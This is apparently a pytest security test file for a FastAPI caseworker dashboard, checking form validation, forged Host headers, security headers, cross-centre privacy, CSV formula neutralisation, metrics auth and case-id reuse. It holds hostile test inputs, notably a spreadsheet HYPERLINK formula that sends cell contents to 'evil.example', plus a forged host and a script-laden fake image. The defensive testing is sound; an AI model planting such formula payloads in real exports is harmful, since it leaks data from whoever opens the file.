"""The dashboard and HTTP surface against an attacker's probe: forged forms and hosts, missing
headers, another centre's messages, spreadsheet formulas, open metrics, reused ids."""

import csv
import io
from datetime import timedelta

import pytest
from fastapi.testclient import TestClient
from pydantic import SecretStr
from sqlmodel import Session, select

from api.main import create_app
from bot.casework.csv_safe import csv_text, safe_cell
from bot.casework.evidence import Evidence
from bot.casework.privacy import forget_and_scrub
from bot.casework.referrals import Referral
from bot.casework.staff import Role
from bot.conversation.contacts import Contact, Message, utcnow
from bot.conversation.inbox import receive
from bot.db import session_scope
from tests.api.staff_helpers import browser, make_case, make_staff, signed_in
from tests.factories import inbound

METRICS_TOKEN = "scrape-me-0123456789"


@pytest.fixture
def app(settings, bot, db, tmp_path):
    settings.evidence_dir = tmp_path / "evidence"
    return create_app(settings, bot)


@pytest.fixture
def supervisor(app, db):
    """A Lahore supervisor (every case form is open to them), a case and its page's CSRF."""
    make_staff(db, "sara@mrc.example", role=Role.SUPERVISOR)
    case = make_case(db)
    client, csrf = signed_in(app, "sara@mrc.example")
    return client, csrf, case


# --- 5: every form field is checked: a 4xx with a reason, never a 500 ------------------------

CASE_FORMS = [
    ("assign", {"staff_id": "abc"}, "staff_id"),
    ("assign", {"staff_id": ""}, "staff_id"),
    ("assign", {"staff_id": "-1"}, "staff_id"),
    ("assign", {"staff_id": "99999999999999999999999"}, "staff_id"),
    ("status", {"to": "bogus", "reason": "x"}, "to"),
    ("status", {"to": "referred", "referred_to": "interpol", "reason": "x"}, "referred_to"),
    ("status", {"to": "in_progress", "reason": "x" * 1001}, "reason"),
    ("status", {"to": "in_progress", "reason": "nul\x00"}, "reason"),
    ("note", {"note": ""}, "note"),
    ("note", {"note": "n" * 4001}, "note"),
    ("note", {"note": "nul\x00byte"}, "note"),
    ("note", {"note": "ok", "for_worker": "yes please"}, "for_worker"),
    ("reply", {"canned": "canned_no_such_text"}, "canned"),
    ("reply", {"body": "b" * 1601}, "body"),
    ("reply", {"body": "nul\x00"}, "body"),
    ("reply", {"body": "   "}, "body"),
]


@pytest.mark.parametrize(("action", "form", "field"), CASE_FORMS)
def test_case_forms_refuse_bad_fields_with_a_reason(supervisor, action, form, field):
    client, csrf, case = supervisor
    response = client.post(f"/staff/cases/{case.reference}/{action}",
                           data={"csrf_token": csrf, **form}, follow_redirects=False)
    assert response.status_code == 400 and field in response.json()["detail"]


def test_assign_refuses_a_switched_off_colleague(app, db, supervisor):
    client, csrf, case = supervisor
    gone = make_staff(db, "gone@mrc.example")
    admin_id = make_staff(db, "admin@mrc.example", role=Role.ADMIN)
    admin, admin_csrf = signed_in(app, "admin@mrc.example")
    assert admin_id != gone
    admin.post(f"/staff/accounts/{gone}/active", data={"csrf_token": admin_csrf})
    response = client.post(f"/staff/cases/{case.reference}/assign",
                           data={"csrf_token": csrf, "staff_id": str(gone)})
    assert response.status_code == 400


@pytest.mark.parametrize("query", [
    "view=everything", "category=bribes", "status=lost", "language=fr",
    "district=" + "d" * 101, "district=%00", "q=%00", "q=" + "9" * 65])
def test_queue_filters_refuse_unknown_values(supervisor, query):
    client, _, _ = supervisor
    response = client.get(f"/staff/queue?{query}")
    assert response.status_code == 400 and response.json()["detail"].split(":")[0] in query


def test_queue_district_filter_treats_wildcards_as_text(supervisor):
    client, _, case = supervisor
    assert case.reference in client.get("/staff/queue?district=GUJ").text
    assert case.reference not in client.get("/staff/queue?district=%25").text


@pytest.mark.parametrize("query", [
    "start=abc", "end=31-01-2024", "start=9999-12-31", "end=9999-12-31", "start=0001-01-01",
    "start=2024-02-01&end=2024-01-01", "start=%00"])
@pytest.mark.parametrize("page", ["/staff/impact", "/staff/impact.csv"])
def test_impact_dates_are_checked(supervisor, page, query):
    client, _, _ = supervisor
    response = client.get(f"{page}?{query}")
    assert response.status_code == 400 and response.json()["detail"].startswith(("start", "end"))


def test_impact_period_includes_the_end_day(supervisor):
    client, _, _ = supervisor
    today = utcnow().date().isoformat()
    text = client.get(f"/staff/impact.csv?start={today}&end={today}").text
    assert "complaints_by_category,money_no_job,1" in text


@pytest.mark.parametrize("form", [{"channel": "telegram", "text": "0"},
                                  {"channel": "sms", "text": "t" * 1601},
                                  {"channel": "sms", "text": "a\x00"}])
def test_simulator_refuses_bad_fields(supervisor, form):
    client, csrf, _ = supervisor
    response = client.post("/staff/simulator", data={"csrf_token": csrf, **form})
    assert response.status_code == 400
    assert response.json()["detail"].split(":")[0] in form


def test_simulator_page_refuses_an_unknown_channel(supervisor):
    client, _, _ = supervisor
    assert client.get("/staff/simulator?channel=telegram").status_code == 400
    assert client.get("/staff/simulator?channel=sms").status_code == 200


@pytest.mark.parametrize(("form", "reason"), [
    ({"role": "overlord"}, "role"), ({"centre": "mrc-karachi"}, "centre"),
    ({"email": "x" * 195 + "@mrc.example"}, "email"), ({"email": "not-an-email"}, "email"),
    ({"name": "nul\x00"}, "name"), ({"name": "n" * 201}, "name"),
    ({"password": "p" * 300}, "password"), ({"password": "short"}, "password")])
def test_account_form_shows_the_error_on_the_page(app, db, form, reason):
    make_staff(db, "admin@mrc.example", role=Role.ADMIN)
    client, csrf = signed_in(app, "admin@mrc.example")
    fields = {"csrf_token": csrf, "email": "new@mrc.example", "name": "New",
              "centre": "mrc-lahore", "role": "caseworker", "password": "long enough pass",
              **form}
    response = client.post("/staff/accounts", data=fields)
    assert response.status_code == 200 and 'class="error"' in response.text
    assert reason in response.text
    with Session(db) as session:
        assert len(session.exec(select(Contact)).all()) == 0  # nothing else touched
        from bot.casework.staff import Staff
        assert [s.email for s in session.exec(select(Staff))] == ["admin@mrc.example"]


def test_account_switch_with_an_absurd_id_is_a_4xx(app, db):
    make_staff(db, "admin@mrc.example", role=Role.ADMIN)
    client, csrf = signed_in(app, "admin@mrc.example")
    response = client.post("/staff/accounts/99999999999999999999999/active",
                           data={"csrf_token": csrf})
    assert response.status_code == 422


def test_licence_upload_with_an_over_long_file_name_is_refused(app, db):
    make_staff(db, "admin@mrc.example", role=Role.ADMIN)
    client, csrf = signed_in(app, "admin@mrc.example")
    response = client.post("/staff/licences", data={"csrf_token": csrf},
                           files={"file": ("x" * 250 + ".csv", "licence_no,name\n", "text/csv")})
    assert response.status_code == 400 and "file" in response.json()["detail"]


# --- 6: no redirect is built from the Host header --------------------------------------------

@pytest.mark.parametrize("path", ["/staff/queue/", "/staff/login/", "/healthz/",
                                  "/staff/impact.csv/", "/webhooks/twilio/", "/staff/static/",
                                  "/staff/cases/ACDE34/"])
def test_trailing_slash_never_redirects_to_the_forged_host(app, path):
    client = TestClient(app, base_url="https://rahnuma.example.org")
    response = client.get(path, headers={"Host": "evil.example"}, follow_redirects=False)
    location = response.headers.get("location", "")
    assert "evil.example" not in location and "//" not in location
    assert response.status_code in {303, 404}


def test_redirects_are_relative_even_with_a_forged_host(app, db):
    client = TestClient(app, base_url="https://rahnuma.example.org")
    for path, target in (("/staff/", "/staff/queue"), ("/staff", "/staff/queue"),
                         ("/staff/queue", "/staff/login")):
        response = client.get(path, headers={"Host": "evil.example"}, follow_redirects=False)
        assert (response.status_code, response.headers["location"]) == (303, target)


# --- 12: security headers on every response --------------------------------------------------

def assert_security_headers(response, *, cacheable: bool = False) -> None:
    headers = response.headers
    csp = headers["content-security-policy"]
    for directive in ("default-src 'self'", "script-src 'none'", "frame-ancestors 'none'",
                      "form-action 'self'", "base-uri 'none'", "img-src 'self' data:"):
        assert directive in csp
    assert "unsafe-inline" not in csp
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["x-frame-options"] == "DENY"
    assert (headers.get("cache-control") == "no-store") is not cacheable


def test_every_staff_page_and_download_has_security_headers(app, db, settings, supervisor):
    client, _, case = supervisor
    settings.evidence_dir.mkdir(parents=True)
    path = settings.evidence_dir / "7.jpg"
    path.write_bytes(b"<html><script>alert(1)</script>")
    with session_scope(db) as session:
        item = Evidence(contact_id=case.contact_id, referral_id=case.id, url="x",
                        content_type="image/jpeg", status="stored", path=str(path))
        session.add(item)
        session.flush()
        evidence_id = item.id
    for url in ("/staff/queue", f"/staff/cases/{case.reference}", "/staff/impact",
                "/staff/impact.csv", "/staff/simulator", "/staff/password",
                f"/staff/cases/{case.reference}/evidence/{evidence_id}", "/staff/nowhere"):
        assert_security_headers(client.get(url))
    assert_security_headers(browser(app).get("/staff/login"))
    assert_security_headers(browser(app).get("/healthz"))
    assert_security_headers(browser(app).get("/staff/static/style.css"), cacheable=True)


# --- 13: a case page shows only what belongs to cases the viewer may see ----------------------

GENERAL = "agent kitni fees le sakta hai"
LAHORE_STORY = "Lahore wale agent ne do lakh liye aur visa nahi diya"
PESHAWAR_STORY = "Peshawar ke agent ne teen lakh liye aur job nahi di"
PESHAWAR_REPLY = "Peshawar centre: please bring the receipts"
WORKER_ANSWER = "receipts kal le kar aaunga"


def file_complaint(db, bot, phone, story, district):
    for answer in ["5", "haan", "1", story, "skip", "skip", district, "1", "1"]:
        receive(db, bot, inbound(answer, phone=phone))


def two_centre_conversation(app, db, bot):
    """One person: a general question three days ago, then a complaint in Lahore and one in
    Peshawar, a Peshawar staff reply, and the person's answer to it."""
    phone = "+923004445555"
    receive(db, bot, inbound(GENERAL, phone=phone))
    with session_scope(db) as session:
        for message in session.exec(select(Message)):
            message.created_at -= timedelta(days=3)
            message.handled_at = message.handled_at and message.handled_at - timedelta(days=3)
    file_complaint(db, bot, phone, LAHORE_STORY, "Lahore")
    file_complaint(db, bot, phone, PESHAWAR_STORY, "Peshawar")
    with Session(db) as session:
        cases = {r.centre: r for r in session.exec(select(Referral))}
    assert set(cases) == {"mrc-lahore", "mrc-peshawar"}
    make_staff(db, "bilal@mrc.example", centre="mrc-peshawar")
    peshawar, csrf = signed_in(app, "bilal@mrc.example")
    peshawar.post(f"/staff/cases/{cases['mrc-peshawar'].reference}/reply",
                  data={"csrf_token": csrf, "body": PESHAWAR_REPLY})
    receive(db, bot, inbound(WORKER_ANSWER, phone=phone))
    return cases, peshawar


def conversation_of(page: str) -> str:
    return page.split("<h2>Conversation</h2>")[1].split("<h2>Reply to the worker</h2>")[0]


def test_case_page_hides_another_centres_intake_and_replies(app, db, bot):
    cases, peshawar = two_centre_conversation(app, db, bot)
    make_staff(db, "ayesha@mrc.example", centre="mrc-lahore")
    lahore, _ = signed_in(app, "ayesha@mrc.example")
    lahore_page = lahore.get(f"/staff/cases/{cases['mrc-lahore'].reference}").text
    assert LAHORE_STORY in conversation_of(lahore_page) and GENERAL in lahore_page
    for secret in (PESHAWAR_STORY, PESHAWAR_REPLY, WORKER_ANSWER, "teen lakh"):
        assert secret not in lahore_page
    peshawar_page = peshawar.get(f"/staff/cases/{cases['mrc-peshawar'].reference}").text
    for shown in (PESHAWAR_STORY, PESHAWAR_REPLY, WORKER_ANSWER, GENERAL):
        assert shown in peshawar_page
    assert LAHORE_STORY not in peshawar_page and "do lakh" not in peshawar_page


def test_admin_sees_the_whole_conversation(app, db, bot):
    cases, _ = two_centre_conversation(app, db, bot)
    make_staff(db, "admin@mrc.example", role=Role.ADMIN)
    admin, _ = signed_in(app, "admin@mrc.example")
    page = conversation_of(admin.get(f"/staff/cases/{cases['mrc-lahore'].reference}").text)
    for shown in (GENERAL, LAHORE_STORY, PESHAWAR_STORY, PESHAWAR_REPLY, WORKER_ANSWER):
        assert shown in page


# --- 14: no spreadsheet formula in a CSV export ----------------------------------------------

@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3",
                                  "@SUM(A1)", "\tcmd", "\r=1"])
def test_csv_cells_that_start_a_formula_become_text(cell):
    assert safe_cell(cell) == "'" + cell
    [row] = csv.reader(io.StringIO(csv_text([[cell]])))
    assert row[0].startswith("'")


def test_csv_numbers_and_plain_text_are_unchanged():
    assert [safe_cell(v) for v in (-3, 1.5, None, "Gujrat", "a=b")] == \
        [-3, 1.5, None, "Gujrat", "a=b"]


def test_impact_csv_neutralises_a_district_typed_as_a_formula(app, db):
    make_staff(db, "ayesha@mrc.example")
    make_case(db, location_district='=HYPERLINK("http://evil.example?"&A1,"x")')
    client, _ = signed_in(app, "ayesha@mrc.example")
    rows = list(csv.reader(io.StringIO(client.get("/staff/impact.csv").text)))
    [district] = [row for row in rows if row[0] == "complaints_by_district"]
    assert district[1] == '\'=HYPERLINK("http://evil.example?"&A1,"x")'


# --- 15: metrics and API docs are not public -------------------------------------------------

def test_metrics_are_not_served_without_a_configured_token(app):
    assert TestClient(app).get("/metrics").status_code == 404


def test_metrics_need_the_bearer_token(settings, bot, db):
    settings.metrics_token = SecretStr(METRICS_TOKEN)
    client = TestClient(create_app(settings, bot))
    assert client.get("/metrics").status_code == 401
    for wrong in ("Bearer nope", f"Basic {METRICS_TOKEN}", f"Bearer {METRICS_TOKEN}x", "Bearer"):
        assert client.get("/metrics", headers={"Authorization": wrong}).status_code == 401
    response = client.get("/metrics", headers={"Authorization": f"Bearer {METRICS_TOKEN}"})
    assert response.status_code == 200 and "rahnuma_outbox_depth" in response.text


@pytest.mark.parametrize("path", ["/docs", "/redoc", "/openapi.json"])
def test_api_docs_are_off_unless_enabled(settings, bot, db, path):
    assert TestClient(create_app(settings, bot)).get(path).status_code == 404
    settings.api_docs = True
    assert TestClient(create_app(settings, bot)).get(path).status_code == 200


# --- 16b: case links use the reference, never a reusable id ----------------------------------

def test_case_links_use_the_reference_and_numeric_links_are_gone(app, db, settings, supervisor):
    client, csrf, case = supervisor
    queue = client.get("/staff/queue").text
    assert f'href="/staff/cases/{case.reference}"' in queue
    assert f'href="/staff/cases/{case.id}"' not in queue
    assert client.get(f"/staff/cases/{case.id}").status_code == 404
    assert client.post(f"/staff/cases/{case.id}/claim",
                       data={"csrf_token": csrf}).status_code == 404
    assert client.get(f"/staff/cases/{case.reference.lower()}").status_code == 200
    page = client.get(f"/staff/cases/{case.reference}").text
    for action in ("reply", "claim", "assign", "status", "note"):
        assert f'action="/staff/cases/{case.reference}/{action}"' in page


def test_evidence_opens_only_under_its_own_case(app, db, settings, supervisor):
    client, _, case = supervisor
    other = make_case(db, phone="+923001119999")
    settings.evidence_dir.mkdir(parents=True)
    path = settings.evidence_dir / "1.jpg"
    path.write_bytes(b"jpeg")
    with session_scope(db) as session:
        item = Evidence(contact_id=case.contact_id, referral_id=case.id, url="x",
                        content_type="image/jpeg", status="stored", path=str(path))
        session.add(item)
        session.flush()
        evidence_id = item.id
    assert client.get(f"/staff/cases/{case.reference}/evidence/{evidence_id}").content \
        == b"jpeg"
    assert f"/staff/cases/{case.reference}/evidence/{evidence_id}" in \
        client.get(f"/staff/cases/{case.reference}").text
    assert client.get(f"/staff/cases/{other.reference}/evidence/{evidence_id}").status_code \
        == 404
    assert client.get(f"/staff/evidence/{evidence_id}").status_code == 404


def test_a_forgotten_case_link_never_opens_the_case_that_reused_its_id(app, db, database_url):
    make_staff(db, "ayesha@mrc.example")
    forgotten = make_case(db, phone="+923001116666", body="the forgotten story")
    forget_and_scrub(db, "+923001116666")
    successor = make_case(db, phone="+923001117777", body="someone else's story")
    if database_url.startswith("sqlite"):
        assert successor.id == forgotten.id  # the reuse the old links stumbled on
    client, _ = signed_in(app, "ayesha@mrc.example")
    assert client.get(f"/staff/cases/{forgotten.reference}").status_code == 404
    assert client.get(f"/staff/cases/{forgotten.id}").status_code == 404
    assert "someone else" in client.get(f"/staff/cases/{successor.reference}").text
